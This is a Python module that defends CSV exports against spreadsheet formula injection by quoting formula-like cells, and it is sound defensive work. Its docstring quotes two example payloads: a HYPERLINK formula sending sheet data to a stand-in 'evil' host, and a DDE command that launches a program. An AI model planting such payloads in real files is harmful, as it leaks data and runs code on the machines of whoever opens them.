"""CSV that a spreadsheet opens as text, never as formulas (OWASP "CSV Injection").

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: `=HYPERLINK("http://evil/?"&A1,"click")` leaks the sheet, and
`+cmd|' /C calc'!A0` runs a program on older Excel. Every CSV that leaves the app (downloads,
the report zip, `ragbench export`) goes through here: such a cell gets a leading `'`, which the
spreadsheet shows as text; quotes, separators and line breaks inside cells are quoted by the
csv writer. A cell that is
a plain number (`-0.25`, `+3`) is left alone: it is data, not a formula.

The run folders' own CSV files (metrics.csv, scores.csv …) keep the values as computed: the app
reads them back, and the quote would change them.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# RFC 4180's line end: a cell holding a bare \r is then quoted too, so no spreadsheet starts a
# new row (and a new cell, unescaped) inside it.
LINE_END = "\r\n"
_NUMBER = re.compile(r"[+-]?((\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|inf|nan)", re.IGNORECASE)


def safe_cell(value: Any) -> Any:
    """`value`, or the text with a leading `'` when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell (and text header) made safe."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column]) or is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """`frame` as UTF-8 CSV (no index) that opens safely in a spreadsheet."""
    return safe_frame(frame).to_csv(index=False, lineterminator=LINE_END).encode("utf-8")


def safe_csv_bytes(data: bytes) -> bytes:
    """An existing CSV file (a run's metrics.csv, say) with every formula-like cell made safe;
    the rows and columns stay as they are."""
    text = data.decode("utf-8-sig")
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=LINE_END)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue().encode("utf-8")


def export_bytes(path: Path) -> bytes:
    """A run file's bytes as they leave the app: a CSV with its formula-like cells made safe,
    anything else as it is."""
    data = path.read_bytes()
    return safe_csv_bytes(data) if path.suffix.lower() == ".csv" else data
